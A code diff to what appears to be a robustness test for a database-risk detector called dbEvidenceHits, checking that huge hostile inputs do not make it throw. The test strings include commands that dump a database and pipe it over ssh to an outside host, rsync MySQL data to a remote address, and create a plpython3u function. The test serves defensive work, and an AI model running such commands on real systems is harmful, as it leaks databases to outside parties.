@@ -365,6 +365,9 @@ describe("hostile input never throws", () => {
     `bind ${"0.0.0.0 ".repeat(10000)}`,
     "\u0000\uffff pg_hba with trust ".repeat(2000),
     "rsync /var/lib/mysql/ a@b.c:".repeat(500),
+    `pg_dump app | ssh u@h.partner.example x\n${"a.".repeat(60000)}`,
+    `pg_dump app | ssh u@h.partner.example x\n${"a-".repeat(60000)}`,
+    `CREATE FUNCTION f() AS ${"$a$ ".repeat(20000)} LANGUAGE plpython3u`,
   ];
   test.each(hostile.map((h, i) => [i, h]))("input %i", (_i, text) => {
     expect(() => dbEvidenceHits(text as string, "migrations/x.py")).not.toThrow();
